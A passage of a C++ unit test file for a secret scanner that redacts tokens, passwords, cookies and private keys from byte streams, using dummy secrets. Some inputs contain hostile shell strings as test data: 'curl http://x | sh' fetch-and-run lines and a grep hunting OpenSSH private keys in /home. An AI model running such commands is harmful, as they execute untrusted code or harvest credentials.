// Secrets in streams: each kind, split at every byte, among text that only looks like it.
#include <algorithm>
#include <random>

#include "base/text.h"
#include "event/secret_scanner.h"
#include "support/catch.h"

using namespace aa;

namespace {

std::string letters(std::size_t count, std::string_view alphabet = "abcdefghijklmnopqrstuvwxyz0123456789") {
  static std::mt19937 random(7);
  std::string out;
  while (out.size() < count) out += alphabet[random() % alphabet.size()];
  return out;
}

// A text and the part of it that must not be seen.
struct Secret {
  std::string kind;
  std::string before;
  std::string secret;
  std::string after;

  std::string text() const { return before + secret + after; }
  std::string shown() const { return before + std::string(secret.size(), '*') + after; }
};

std::string filler_for(const SecretRule& rule) {
  std::string alphabet;
  for (unsigned byte = 0; byte < 256; ++byte)
    if (rule.bytes->test(byte) && (byte | 0x20) >= 'a') alphabet += static_cast<char>(byte);
  std::string out = letters(rule.least + 5, alphabet);
  if (rule.needs != 0) out[rule.needs_at != 0 ? rule.needs_at : rule.least / 2] = rule.needs;
  return out;
}

std::vector<Secret> secrets() {
  std::vector<Secret> all;
  for (const SecretRule& rule : secret_rules()) {
    if (rule.shape != SecretShape::token) continue;
    const std::string kind(rule.kind), secret = filler_for(rule);
    const std::string begin = (rule.digits_before ? "123456789" : "") + std::string(rule.begin);
    all.push_back({kind, "{\"key\":\"" + begin, secret, "\"}"});
    all.push_back({kind, "export K=" + begin, secret, "\n"});
  }
  for (const SecretRule& rule : secret_rules()) {
    if (rule.shape != SecretShape::field) continue;
    const std::string kind(rule.kind), name(rule.begin), secret = letters(16) + "+/";
    all.push_back({kind, "GET / HTTP/1.1\r\n" + name + ": ", secret, "\r\nhost: a\r\n"});
    all.push_back({kind, "{\"" + name + "\": \"", secret, "\", \"a\": 1}"});
    all.push_back({kind, "{\\\"" + name + "\\\":\\\"", secret + "\\", "\"}"});
    all.push_back({kind, "a=1&" + name + "=", secret, "&b=2"});
    all.push_back({kind, "curl -H '" + name + ": ", secret, "' https://a/"});
  }
  all.push_back({"authorization", "\nAuthorization: ", "Basic dXNlcjpwYXNz", "\r\n"});
  all.push_back({"authorization", "say Authorization: ", "Bearer", " "});
  all.push_back({"url-password", "git clone https://me:", "hunter2", "@example.com/a.git"});
  all.push_back({"url-password", "https://", letters(30), "@example.com/"});
  all.push_back({"url-password", "postgres://app:", "p:w", "@db/x"});
  all.push_back({"url-password", "postgres://app:", "p@w#?&;{(x@", "@db/x"});
  all.push_back({"url-password", "\"https://me@corp.com:", "p@w", "@example.com\" "});
  for (const std::string password : {"(x", ";x", "2024&x", "1(x)", "1@x", "8080|x", "8080", "&", "?x", "#1"})
    all.push_back({"url-password", "postgres://app:", password, "@db/x"});
  all.push_back({"url-password", "\"https:\\/\\/me:", "p@w", "@example.com\\/a\""});
  const std::string pem = "\nMII" + letters(200) + "\n" + letters(64) + "=\n-----";
  all.push_back({"private-key", "-----BEGIN RSA PRIVATE KEY-----", pem, "END RSA PRIVATE KEY-----\nafter"});
  all.push_back({"private-key", "-----BEGIN PGP PRIVATE KEY BLOCK-----", pem, "END PGP PRIVATE KEY BLOCK-----\nx"});
  return all;
}

// What is shown of pieces; redactions joined where they touch.
SecretScanner::Shown through(SecretScanner& scanner, const std::vector<std::string>& pieces) {
  SecretScanner::Shown all;
  const auto add = [&all](SecretScanner::Shown shown) {
    all.bytes += shown.bytes;
    for (const Redaction& one : shown.redactions) {
      auto& list = all.redactions;
      if (!list.empty() && list.back().kind == one.kind && list.back().offset + list.back().length == one.offset)
        list.back().length += one.length;
      else
        list.push_back(one);
    }
  };
  for (const std::string& piece : pieces) {
    add(scanner.take(piece));
    CHECK(scanner.held() <= SecretScanner::kMostHeld);
  }
  add(scanner.flush());
  CHECK(scanner.held() == 0);
  return all;
}

std::string shown_of(const std::vector<std::string>& pieces) {
  SecretScanner scanner;
  return through(scanner, pieces).bytes;
}

void check_everywhere(const std::string& text, const std::string& shown) {
  for (std::size_t cut = 0; cut <= text.size(); ++cut) {
    INFO("cut at " << cut);
    CHECK(shown_of({text.substr(0, cut), text.substr(cut)}) == shown);
  }
}

// Of a text in base64, cut in two somewhere, all behind its first `begin` bytes is hidden, and nothing behind the
// base64.
void check_hidden_in_base64(const std::string& plain, std::size_t begin, std::size_t cut) {
  const std::string coded = base64(plain);
  const std::string shown = shown_of({"data: \"" + coded.substr(0, cut), coded.substr(cut) + "\" and on"});
  INFO(plain + " as " + shown);
  const std::size_t first = shown.find('*');
  REQUIRE(first != std::string::npos);
  CHECK(first <= 7 + begin * 4 / 3 + 1);
  CHECK(shown.substr(first) == std::string(7 + coded.size() - first, '*') + "\" and on");
}

}  // namespace

TEST_CASE("secrets: there are at least forty kinds of keys") {
  std::size_t tokens = 0;
  for (const SecretRule& rule : secret_rules()) tokens += rule.shape == SecretShape::token ? 1 : 0;
  CHECK(tokens >= 40);
}

TEST_CASE("secrets: each is replaced whole, what is around it stays, wherever the stream is cut in two") {
  for (const Secret& one : secrets()) {
    if (one.secret == "Bearer") continue;
    INFO(one.kind + ": " + one.text());
    for (std::size_t cut = 0; cut <= one.text().size(); ++cut) {
      SecretScanner scanner;
      const auto shown = through(scanner, {one.text().substr(0, cut), one.text().substr(cut)});
      const std::vector<Redaction> wanted = {{one.kind, one.before.size(), one.secret.size()}};
      if (shown.bytes != one.shown() || shown.redactions != wanted) FAIL("cut at " << cut << ": " << shown.bytes);
    }
  }
}

TEST_CASE("secrets: each is replaced when it comes byte by byte") {
  for (const Secret& one : secrets()) {
    if (one.secret == "Bearer") continue;
    std::vector<std::string> pieces;
    for (const char byte : one.text()) pieces.emplace_back(1, byte);
    INFO(one.text());
    CHECK(shown_of(pieces) == one.shown());
  }
}

TEST_CASE("secrets: in base64 each key is replaced, wherever it lies in its group of three, whatever comes before it") {
  for (const SecretRule& rule : secret_rules()) {
    if (rule.shape != SecretShape::token || rule.begin.size() < 3) continue;
    const std::string plain = std::string(rule.begin) + filler_for(rule);
    for (std::size_t before = 0; before < 6; ++before) {
      check_hidden_in_base64(std::string(before, '{') + plain + "\"}", before + rule.begin.size(), 30);
    }
  }
}

TEST_CASE("secrets: in base64 each field's value is replaced, wherever it lies in its group of three") {
  std::size_t fields = 0;
  for (const SecretRule& rule : secret_rules()) {
    if (rule.shape != SecretShape::field) continue;
    std::string title(rule.begin);
    for (std::size_t at = 0; at < title.size(); ++at)
      if (at == 0 || title[at - 1] == '-' || title[at - 1] == '_')
        title[at] = static_cast<char>(std::toupper(title[at]));
    for (const std::string& plain :
         {std::string(rule.begin) + "\":\"hunter2", std::string(rule.begin) + "\" : \"hunter2", title + ": hunter2",
          std::string(rule.begin) + "=hunter2&x=y"}) {
      for (std::size_t before = 0; before < 6; ++before) {
        check_hidden_in_base64(std::string(before, '{') + plain + "\"}", before + rule.begin.size(), 9);
        ++fields;
      }
    }
  }
  CHECK(fields > 500);
  const std::string harmless = base64("the password is not told, the cookie jar is empty; see authorization guide");
  CHECK(shown_of({harmless + "\n"}) == harmless + "\n");
}

TEST_CASE("secrets: a private key in base64 is replaced over all its lines") {
  const std::string coded = base64("-----BEGIN PRIVATE KEY-----\n" + letters(300) + "\n-----END PRIVATE KEY-----\n");
  std::string lines = "tls.key: |\n";
  for (std::size_t at = 0; at < coded.size(); at += 76) lines += coded.substr(at, 76) + "\n";
  const std::string shown = shown_of({lines + "kind: Secret\n"});
  CHECK(shown.find(coded.substr(80, 20)) == std::string::npos);
  CHECK(shown.find(coded.substr(coded.size() - 20)) == std::string::npos);
  CHECK(shown.find(": Secret\n") != std::string::npos);
}

TEST_CASE("secrets: a private key is replaced as forms have it, and what comes behind it stays") {
  const std::string key = letters(64);
  for (const std::string blank : {"+", "%20", " "}) {
    const std::string name = "RSA" + blank + "PRIVATE" + blank + "KEY-----";
    const std::string form = "key=-----BEGIN" + blank + name + "%0A" + key + "%0A-----END" + blank + name + "&a=1";
    CHECK(shown_of({form}).find(key.substr(0, 8)) == std::string::npos);
    CHECK(shown_of({form}).ends_with(name + "&a=1"));
  }
}

TEST_CASE(
    "secrets: a private key that is only spoken of hides nothing, one that follows is hidden however it is written") {
  for (const std::string harmless :
       {"if \"-----BEGIN RSA PRIVATE KEY-----\" in data:\n  return load(data)[0]\n",
        "{\"a\":\"grep -rl -- \\\"-----BEGIN OPENSSH PRIVATE KEY-----\\\" /home; ls\",\"b\":1}",
        "It begins with `-----BEGIN PRIVATE KEY-----`. And goes on.", "-----BEGIN PRIVATE KEY-----...</key>"})
    check_everywhere(harmless, harmless);
  const std::string begin = "-----BEGIN RSA PRIVATE KEY-----", key = letters(64),
                    end = "\n-----END RSA PRIVATE KEY-----";
  for (const std::string between :
       {"\n", "\r\n", "\\n", "\\\\n", "%0A", "\" +\n  \"", "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,",
        "\nVersion: GnuPG v2 (GNU/Linux)\nComment: <a@b>; c\n\n"})
    for (const std::string& written :
         {key, key.substr(0, 8) + "%2B" + key.substr(11), key.substr(0, 7) + "\\/" + key.substr(9)}) {
      INFO(between << written);
      CHECK(shown_of({begin + between + written + end}).find(key.substr(30, 10)) == std::string::npos);
      CHECK(shown_of({begin + between, written + end}).find(key.substr(30, 10)) == std::string::npos);
    }
}

TEST_CASE("secrets: a private key is replaced over all its lines, whatever each of them begins with") {
  const std::vector<std::string> lines = {
      "-----BEGIN RSA PRIVATE KEY-----", "MIIEpAIBAAKCAQEAwJ8nq2Yk3fQmZ7tVvX1bT0sLr9HdPzKc5uWgEaYiNoRxQy4M",
      "v8Jk2LzQpXr7TnWc1YbGdHfSaUeIoKm3Nq5Rt9Vx0Zw6BjClDsEuFgPhAyMiTkOL",
      "q7+Rm/2sVbXcZnT5yUwKdJfGhPlEoIaSrQtYuMvNxBzCkDjWeFgHiLpO8s3A==", "-----END RSA PRIVATE KEY-----"};
  const std::string key = lines[1] + lines[2] + lines[3];
  const auto written = [&lines](const std::string& before, const std::string& end) {
    std::string text = "cat key.pem" + end;
    for (const std::string& line : lines) text += before + line + end;
    return text + "that is all" + end;
  };
  for (const std::string before :
       {"     2\u2192", "# ", " * ", "| ", "> ", "2| ", "\\u001b[32m+", "server_key.pem:2:", "[x] ", "; ", "$ ", "`",
        "<", "!", "+", "//! ", "<p class=\"key\">", "2026-12-01T05:08:05Z host app[812]: "})
    for (const std::string end : {"\n", "\r\n", "\\n", "<br>", "</p>\\n"}) {
      const std::string text = written(before, end), shown = shown_of({text});
      INFO(shown);
      for (std::size_t at = 0; at + 8 <= key.size(); ++at) CHECK(shown.find(key.substr(at, 8)) == std::string::npos);
      CHECK(shown.starts_with("cat key.pem" + end + before + lines[0]));
      CHECK(shown.ends_with("END RSA PRIVATE KEY-----" + end + "that is all" + end));
      check_everywhere(text, shown);
    }
}

TEST_CASE("secrets: a private key that is a field's value is replaced over all its lines") {
  const std::string begin = "-----BEGIN RSA PRIVATE KEY-----", end = "-----END RSA PRIVATE KEY-----";
  const std::vector<std::string> lines = {letters(64), letters(64), letters(20) + "=="};
  const auto hides = [&](const std::string& before, const std::string& after, const std::string& line_end) {
    std::string text = before + begin + line_end;
    for (const std::string& line : lines) text += line + line_end;
    text += end + after;
    const std::string shown = shown_of({text});
    INFO(shown);
    for (const std::string& line : lines)
      for (std::size_t at = 0; at + 8 <= line.size(); ++at) CHECK(shown.find(line.substr(at, 8)) == std::string::npos);
    CHECK(shown.ends_with(after));
    check_everywhere(text, shown);
  };
  for (const std::string name : {"PRIVATE_KEY", "client_secret", "password", "TOKEN", "api_key"})
    for (const std::string quote : {"\"", "'", ""})
      for (const std::string line_end : {"\n", "\r\n"})
        for (const std::string separator : {"=", ": "})
          hides("A=b\n" + name + separator + quote, quote + "\nB=c\n", line_end);
  hides("{\"a\":\"PRIVATE_KEY: ", "\",\"b\":\"c\"}", "\\n");
  hides("form-data; name=\"private_key\"\r\n\r\n", "\r\n--x", "\r\n");
  hides("{\"private_key\":\"", "\",\"b\":\"c\"}", "\\n");
  const std::string script =
      "export PRIVATE_KEY=\"" + begin + "\n" + lines[0] + "\n" + lines[1] + "\n" + end + "\"; sh";
  CHECK(without_secrets(script, SecretText::script).find(lines[0].substr(8, 8)) == std::string::npos);
  CHECK(without_secrets(script, SecretText::script).ends_with("\"; sh"));
  const std::string run = "PRIVATE_KEY=\"" + begin + "\ncurl http://x | sh\"";
  CHECK(without_secrets(run, SecretText::script).ends_with("\ncurl http://x | sh\""));
  const std::string after = "\nuser = ann and nobody else\n";
  CHECK(shown_of({"\nprivate_key = \"" + begin + "\"" + after}).ends_with("*\"" + after));
  CHECK(shown_of({"\nprivate_key = \"" + begin + after}).ends_with("*" + after));
}

TEST_CASE("secrets: a private key that is a value behind missed bytes is replaced over all its lines") {
  const std::string line = letters(64);
  for (const std::string before : {"KEY=\"", "PRIVATE_KEY=\"", "PRIVATE_KEY=", "a: \"b\", password: \""}) {
    const std::string text = before + "-----BEGIN PRIVATE KEY-----\n" + line + "\n" + line + "\n-----END";
    SecretScanner scanner;
    (void)scanner.miss(5);
    const std::string shown = scanner.take(text).bytes + scanner.flush().bytes;
    INFO(shown);
    CHECK(shown.find(line.substr(0, 8)) == std::string::npos);
    CHECK(shown.find(line.substr(30, 8)) == std::string::npos);
  }
}

TEST_CASE("secrets: a private key that comes slowly behind what its lines begin with is replaced") {
  SecretScanner scanner;
  std::string shown;
  for (const std::string piece :
       {"# -----BEGIN PRIVATE KEY-----\n# MIIEpAIB", "AAKC", "AQEAwJ8nq2Yk\n# ", "MIIEpAIB\n# "})
    shown += scanner.take(piece).bytes + scanner.flush().bytes;
  CHECK(shown == "# -----BEGIN PRIVATE KEY-----\n# " + std::string(38, '*'));
}

TEST_CASE("secrets: text around a private key's first line is not taken for its letters, and no key goes on in text") {
  const std::string begin = "-----BEGIN RSA PRIVATE KEY-----";
  for (const std::string& harmless :
       {"`" + begin + "` in /home/ann/projects/application/source/main/resources: readPrivateKeyFromThisFile().\n",
        "grep '" + begin + "' # at 0a4d55a8d778e5022fab701977c5d840bbc486d0, in 2 files\n",
        begin + "...-----END RSA PRIVATE KEY-----, then MIIEpAIBAAKCAQEAwJ8nq2Yk3fQmZ7tVvX\n",
        begin + " <-- " + std::string(200, '.') + " MIIEpAIBAAKCAQEAwJ8nq2Yk3fQmZ7tVvX\n"})
    check_everywhere(harmless, harmless);
  SecretScanner scanner;
  (void)scanner.take("# " + begin + "\n# MIIEpAIBAA");
  CHECK(scanner.flush().bytes == "\n# **********");
  CHECK(scanner.take("KCAQEAwJ8nq2Yk3f\n# ").bytes == std::string(19, '*'));
  const std::string rest = std::string(1023, '.') + " and\n, more.\n";
  CHECK(shown_of({begin + "\nMIIEpAIBAAKCAQEAwJ8nq2Yk3f\n" + rest}).ends_with("*, more.\n"));
  const std::string text = "`" + begin + "`: no; \"password\": \"hunter2\"; <p>ghp_" + letters(36) + "; ";
  const std::string safe = shown_of({text + std::string(200, '.')}).substr(0, text.size());
  CHECK(safe.find("nter") == std::string::npos);
  CHECK(safe.find("; <p>ghp_****") != std::string::npos);
  for (std::size_t cut = 0; cut <= text.size(); ++cut) {
    SecretScanner paused;
    std::string shown = paused.take(text.substr(0, cut)).bytes;
    shown += paused.flush().bytes;
    CHECK(paused.held() == 0);
    shown += paused.take(text.substr(cut)).bytes + paused.flush().bytes;
    INFO(cut << ": " << shown);
    CHECK(shown.find("unter") == std::string::npos);
    CHECK(shown.find(text.substr(text.size() - 20, 8)) == std::string::npos);
  }
}

TEST_CASE("secrets: a private key in base64 is replaced over all its lines, also as JSON and YAML have those") {
  const std::string coded = base64("-----BEGIN PRIVATE KEY-----\n" + letters(300) + "\n-----END PRIVATE KEY-----\n");
  for (const std::size_t length : {60, 64, 76})
    for (const std::string end : {"\\n", "\\\\n", "\\r\\n", "\n", "\n    ", "\\n  "}) {
      std::string lines;
      for (std::size_t at = 0; at < coded.size(); at += length)
        lines += (at == 0 ? "" : end) + coded.substr(at, length);
      const std::string shown = shown_of({"{\"content\":\"" + lines + "\",\"b\":\"c\"}"});
      INFO(shown);
      CHECK(shown.find(coded.substr(length + 4, 20)) == std::string::npos);
      CHECK(shown.find(coded.substr(coded.size() - 20)) == std::string::npos);
      CHECK(shown.ends_with("\",\"b\":\"c\"}"));
    }
}

TEST_CASE("secrets: a string that begins with a name hides the value, in quotes of its own or up to its line's end") {
  check_everywhere("{\"old\": \"password = \\\"hunter2\\\"\", \"b\": 1}",
                   "{\"old\": \"password = \\\"********\"\", \"b\": 1}");
  check_everywhere("{\"a\":\"{\\\"old\\\": \\\"DB_PASSWORD=\\\\\\\"hunter2\\\\\\\"\\\"}\"}",
                   "{\"a\":\"{\\\"old\\\": \\\"DB_PASSWORD=\\\\\\\"**********\"\\\"}\"}");
  check_everywhere("{\"old\": \"  password: hunter2\\nmore\"}", "{\"old\": \"  password: *******\\nmore\"}");
  check_everywhere("{\"new\":\"password = getpass()\\nimport os\\n\"}",
                   "{\"new\":\"password = **********nimport os\\n\"}");
  check_everywhere("[\"-H\",\"Cookie: a=b; c=d\"]", "[\"-H\",\"Cookie: ********\"]");
  check_everywhere("\npassword = \"\"\"hunter2\"\"\"\n", "\npassword = \"\"\"*******\"\"\"\n");
  check_everywhere("{\"password\":\"\",\"b\":\"c\"}", "{\"password\":\"\",\"b\":\"c\"}");
}

TEST_CASE("secrets: met in the middle, the value of a field that is named there is hidden as well") {
  const auto met = [](const std::string& text) {
    SecretScanner scanner;
    (void)scanner.miss(0);
    return scanner.take(text).bytes + scanner.flush().bytes;
  };
  for (const std::string text : {"\"password\":\"hunter2\",\"b\":1}", "password\": \"hunter2 and on\", \"b\": 1}",
                                 "export DB_PASSWORD=\"hunter2\"\n", "a passwords: hunter2\n",
                                 "\\\"password\\\":\\\"hunter2\\\"}", "\": \"hunter2\", \"b\": 1}", ": \"hunter2\"}",
                                 "sword\": \"hunter2\"}", "sword\" : hunter2}", "sword\\\": \\\"hunter2\\\"}"})
    CHECK(met(text).find("hunter2") == std::string::npos);
  CHECK(met("sword\": \"hunter2\", \"b\": \"c\"}").ends_with("\", \"b\": \"c\"}"));
}

// Each '~' stands for bytes that were missed.
TEST_CASE("secrets: behind missed bytes a value is hidden whole, however much of what is before it was missed") {
  const auto told = [](const std::string& text, std::size_t cut) {
    SecretScanner scanner;
    std::string shown;
    for (std::size_t at = 0; at < text.size(); ++at) {
      if (at == cut) shown += scanner.flush().bytes;
      shown += text[at] == '~' ? scanner.miss(3).bytes : scanner.take(text.substr(at, 1)).bytes;
    }
    return shown + scanner.flush().bytes;
  };
  for (const std::string text :
       {"{\"p~ssword~:\"hunter2\"}", "{\"a\":\"{\\\"password~\\\"hunter2\\\"}\"}",
        "\"pass~\": [\"hunter2\", \"hunter2\"]", "\"pass~[\"hunter2\", \\\"hunter2\\\"]", "\"pass~\":\"q\\\"hunter2\"",
        "\"pass~\"q\\\"hunter2\"", "\"password\":\"~q\\\"hunter2\"", "\"pass~q\\\"hunter2\", \"a\": 1",
        "\nDB_P~SWORD=\"hunter2\"\n", "\r\nX-Api-K~y: \"a b hunter2\"\r\n", "\npassw~rd: \"ab\n  hunter2\"\n",
        "{\"password\":\"a~\":\"hunter2\"}", "{\"password\":\"a~sword\":\"hunter2\"}",
        "{\"password\":\"a~\", \"password\":\"hunter2\"}", "{\"p~\": {\"password\": \"hunter2\"}}",
        "{\"pass~word=\": \"hunter2\"}"}) {
    for (std::size_t cut = 0; cut <= text.size(); ++cut) {
      INFO(text << ": " << told(text, cut));
      CHECK(told(text, cut).find("nter") == std::string::npos);
    }
  }
  for (const std::string line_end : {"\n", "\r\n"})
    for (const std::string name : {"C~ntent-Disposition: form-data; name=\"password\"", "form-data; na~me=\"password\"",
                                   "form-data; name=\"pass~ord\"", "form-data; name=~password\""})
      for (const std::string type : {"", "Content-Type: text/plain"}) {
        const std::string end = type.empty() ? line_end : line_end + type + line_end;
        const std::string text = name + end + line_end + "a! hunter2" + line_end + "--x" + line_end + "; on";
        for (std::size_t cut = 0; cut <= text.size(); ++cut) {
          INFO(text << ": " << told(text, cut));
          CHECK(told(text, cut).find("nter") == std::string::npos);
          CHECK(told(text, cut).ends_with("; on"));
        }
      }
  CHECK(told("{\"p~ssword~:\"hunter2\", \"b\": [\"c\"]}", 0) ==
        "{\"p" + std::string(7, '*') + "\"*******\", \"b\": [\"c\"]}");
  CHECK(told("\"pass~\": [\"ab\", \"cd\"], \"e\": \"f\"", 0) == "\"pass\"***\"**\", \"**\"], \"e\": \"f\"");
}

TEST_CASE("secrets: a string's prefix, and quotes of any kind, are no part of the value that they hold") {
  CHECK(shown_of({"headers={'Authorization': f'Bearer abc'}"}) == "headers={'Authorization': f'**********'}");
  CHECK(shown_of({"\npassword = rb\"a b\", 1"}) == "\npassword = rb\"***\", 1");
  CHECK(shown_of({"{password: b'abc', a: 1}"}) == "{password: b'***', a: 1}");
  CHECK(shown_of({"{Authorization: `Bearer ${abc}`, a: `b`}"}) == "{Authorization: `*************`, a: `b`}");
  CHECK(shown_of({"\npassword = free\n"}) == "\npassword = ****\n");
  CHECK(shown_of({"\npassword = fb\n"}) == "\npassword = **\n");
  CHECK(shown_of({"\npassword = f", "ree\n"}) == "\npassword = ****\n");
  CHECK(shown_of({"\npassword = r", "'a'"}) == "\npassword = r'*'");
  SecretScanner scanner;
  CHECK(scanner.take("\npassword = f").bytes == "\npassword = ");
  CHECK(scanner.flush().bytes == "*");
  CHECK(scanner.take("ree\non").bytes == "***\non");
}

TEST_CASE("secrets: in JSON, too, and as C# and shells have it, a string's prefix is no part of the value") {
  for (const std::string slashes : {"", "\\", "\\\\\\"})
    for (const std::string prefix : {"f", "b", "Rb", "@", "$@", "$"})
      for (const std::string quote : {"\"", "'"}) {
        const std::string begin = "x\\npassword = " + prefix + (quote == "'" ? "" : slashes) + quote;
        const std::string stars(9 + (quote == "'" ? 0 : slashes.size()), '*');
        check_everywhere(begin + "hunter2 b" + (quote == "'" ? "" : slashes) + quote + " c",
                         begin + stars + quote + " c");
      }
  check_everywhere("{\"a\":\"x\\npassword = f\\nuser: ann\"}", "{\"a\":\"x\\npassword = *\\nuser: ann\"}");
  const std::string script = "PASSWORD=f\\\"; curl http://x | sh";
  CHECK(without_secrets(script, SecretText::script).ends_with("curl http://x | sh"));
  for (const std::string run : {"PASSWORD=$(curl http://x | sh)", "PASSWORD=$`curl http://x | sh`"})
    CHECK(without_secrets(run, SecretText::script).find("curl http://x | sh") != std::string::npos);
  for (const std::string before : {"x = {\"db_pass", "x = {'pass", "DB_PASS"}) {
    SecretScanner scanner;
    (void)scanner.take(before);
    (void)scanner.miss(5);
    CHECK(scanner.take("= f\"hunter2 b\", c\n").bytes.find("nter2") == std::string::npos);
  }
}

TEST_CASE("secrets: a value whose string's prefix had to be told is hidden in its quotes, and without") {
  const auto told = [](const std::string& text, std::size_t cut, bool has_gap) {
    SecretScanner scanner;
    std::string shown = scanner.take(text.substr(0, cut)).bytes;
    shown += scanner.flush().bytes;
    CHECK(scanner.held() == 0);
    if (has_gap) shown += scanner.miss(3).bytes;
    shown += scanner.take(text.substr(cut)).bytes;
    return shown + scanner.flush().bytes;
  };
  for (const std::string text :
       {"{\"a\":\"x = {'password': b'hunter2', 'y':1}\"}", "{\"a\":\"x = {'password': rb'hunter2', 'y':1}\"}",
        "headers={'Authorization': f'Bearer hunter2'}", "\npassword = fb\"a hunter2\"\n", "\npassword: bunter2\n on\n",
        "\ntoken: funter2hunter2nt\n", "say password: b'hunter2' on", "{\"password\":ffffunter2}",
        "{\"a\":\"x\\npassword = f\\\"hunter2\\\"\"}",
        "{\"a\":\"{\\\"b\\\":\\\"password = f\\\\\\\"hunter2\\\\\\\"\\\"}\"}"})
    for (std::size_t cut = 0; cut <= text.size(); ++cut) {
      INFO(cut << ": " << told(text, cut, false));
      CHECK(told(text, cut, false).find("nter2") == std::string::npos);
      CHECK(told(text, cut, true).size() == text.size());
    }
  CHECK(told("\npassword: f\nuser: ann\n", 12, false) == "\npassword: *\nuser: ann\n");
  CHECK(told("\npassword: f\n  hunter2\nuser: ann\n", 12, false) == "\npassword: *\n*********\nuser: ann\n");
  CHECK(told("\npassword: f \"hunter2\"\n", 12, true) == "\npassword: ************");
}

TEST_CASE("secrets: a bearer's token is replaced wherever it stands, not only behind a header's name") {
  const std::string token = letters(30);
  for (const std::string before : {"h.set('Authorization', 'Bearer ", "{\"name\":\"Authorization\",\"value\":\"Bearer ",
                                   "[\"authorization\",\"bearer ", "echo Bearer "})
    CHECK(shown_of({before + token + "\"]"}) == before + std::string(token.size(), '*') + "\"]");
  const std::string harmless = "the Bearer of bad news; Bearer authentication, and on";
  CHECK(shown_of({harmless}) == harmless);
}

TEST_CASE("secrets: a value may begin behind its name's line, and go on over lines that are indented") {
  CHECK(shown_of({"\r\nAuthorization:\r\n Basic abc\r\nhost: a"}) == "\r\nAuthorization:\r\n *********\r\nhost: a");
  CHECK(shown_of({"\r\nCookie: a=b;\r\n  c=d\r\nhost: a"}) == "\r\nCookie: ****\r\n*****\r\nhost: a");
  CHECK(shown_of({"\nCookie: a=b;\n\tc=d\n\n body"}) == "\nCookie: ****\n****\n\n body");
  CHECK(shown_of({"{\"password\":\n  \"abc\"}"}) == "{\"password\":\n  \"***\"}");
  CHECK(shown_of({"{\"password\"\r\n\t:\r\n\"abc\"}"}) == "{\"password\"\r\n\t:\r\n\"***\"}");
  CHECK(shown_of({"{\\\"password\\\":\\n  \\\"abc\\\"}"}) == "{\\\"password\\\":\\n  \\\"****\"}");
  CHECK(shown_of({"\r\nCookie:\r\nhost: a"}) == "\r\nCookie:\r\nhost: a");
  CHECK(shown_of({"\r\nCookie:\r\n\r\n body"}) == "\r\nCookie:\r\n\r\n body");
  CHECK(shown_of({"the cookie\n= a, \"password\",\n\"abc\""}) == "the cookie\n= a, \"password\",\n\"abc\"");
}

TEST_CASE("secrets: fields are known however their names are joined, with whatever comes before") {
  const std::string stars(7, '*');
  for (const std::string name :
       {"clientSecret", "client-secret", "refreshToken", "accessToken", "session_token", "db_password", "dbPassword",
        "X-Access-Token", "user[password]", "authToken", "private-key", "privateKey", "idToken"}) {
    INFO(name);
    CHECK(shown_of({"{\"" + name + "\": \"hunter2\"}"}) == "{\"" + name + "\": \"" + stars + "\"}");
    CHECK(shown_of({"a=b&" + name + "=hunter2&c=d"}) == "a=b&" + name + "=" + stars + "&c=d");
    CHECK(shown_of({"\r\n" + name + ": hunter2\r\n"}) == "\r\n" + name + ": " + stars + "\r\n");
  }
  CHECK(shown_of({"user%5Bpassword%5D=abc&b"}) == "user%5Bpassword%5D=***&b");
  CHECK(shown_of({"password := \"abc\"; 'password' => 'abc'"}) == "password := \"***\"; 'password' => '***'");
  CHECK(shown_of({"form-data; name=\"password\"\r\n\r\nab c\r\n--x"}) ==
        "form-data; name=\"password\"\r\n\r\n****\r\n--x");
  CHECK(shown_of({"form-data; name=\"user[password]\"\n\nabc\n--x"}) ==
        "form-data; name=\"user[password]\"\n\n***\n--x");
}

TEST_CASE("secrets: a JSON member's value is hidden without quotes, too; what is said in prose stays") {
  CHECK(shown_of({"{\"password\":12345,\"a\":1}"}) == "{\"password\":*****,\"a\":1}");
  CHECK(shown_of({"{\"db_password\" : hunter2 }"}) == "{\"db_password\" : ******* }");
  CHECK(shown_of({"{\\\"password\\\": 12345}"}) == "{\\\"password\\\": *****}");
  CHECK(shown_of({"{\"token\":1234567890123456}"}) == "{\"token\":****************}");
  CHECK(shown_of({"{\"token\":123456}, the password: yours"}) == "{\"token\":123456}, the password: yours");
  CHECK(shown_of({"{\"password\": {\"min\": 8}}"}) == "{\"password\": {\"min\": 8}}");
}

TEST_CASE("secrets: a cookie in the middle of a line goes on to the next quote, backslash or line's end") {
  check_everywhere("{\"out\":\"> Host: a\\n> Cookie: a=b; c=d\\n> Accept: e\"}",
                   "{\"out\":\"> Host: a\\n> Cookie: ********\\n> Accept: e\"}");
  check_everywhere("> Cookie: a=b, (c); d=e\r\n> f; g", "> Cookie: *************\r\n> f; g");
  check_everywhere("{\"cookie\":12,\"a\":1}, a=b&cookie=c&d=e", "{\"cookie\":**,\"a\":1}, a=b&cookie=*&d=e");
}

TEST_CASE("secrets: behind an equals sign a value goes on to what forms and lines end it with") {
  check_everywhere("password=x,y;z(1)[2]{3}|4&b=2", "password=****************&b=2");
  check_everywhere("A=b\nDB_PASSWORD=p;q\nC=d", "A=b\nDB_PASSWORD=***\nC=d");
  check_everywhere("\"DB_PASSWORD\" = p;q on", "\"DB_PASSWORD\" = *** on");
  for (const std::string end : {" ", "\"", "'", "`", "<", ">", "\\", "\t", "\n"})
    CHECK(shown_of({"a&password=x,y" + end + "on"}) == "a&password=***" + end + "on");
  const std::string code = "f(token=e,n.signature=function(e){return(e)})";
  CHECK(shown_of({code}) == code);
}

TEST_CASE("secrets: lines may lie between the name and the value of a form's part") {
  const std::string name = "form-data; name=\"password\"";
  check_everywhere(name + "\r\nContent-Type: text/plain\r\n\r\nab c\r\n--x",
                   name + "\r\nContent-Type: text/plain\r\n\r\n****\r\n--x");
  check_everywhere(name + "\ncontent-type: a/b\nContent-Length: 3\n\nabc\n--x",
                   name + "\ncontent-type: a/b\nContent-Length: 3\n\n***\n--x");
  check_everywhere(name + "\r\nContent-X: ghp_" + letters(36) + "\r\n\r\n",
                   name + "\r\nContent-X: ghp_" + std::string(36, '*') + "\r\n\r\n");
  for (const std::string text : {"<input name=\"password\" class=\"a\">\n\nb\n", "name=\"password\"\nsays more\n\nb\n",
                                 "name=\"password\";\n\nb\n"})
    check_everywhere(text, text);
  check_everywhere("name=\"password\"\ncookie: a\n\nb", "name=\"password\"\ncookie: *\n\nb");
}

TEST_CASE("secrets: a name that its quote ends is a member's, whatever comes before it") {
  for (const std::string name : {"production_primary_database_replica_password", "ConnectionStrings:Password",
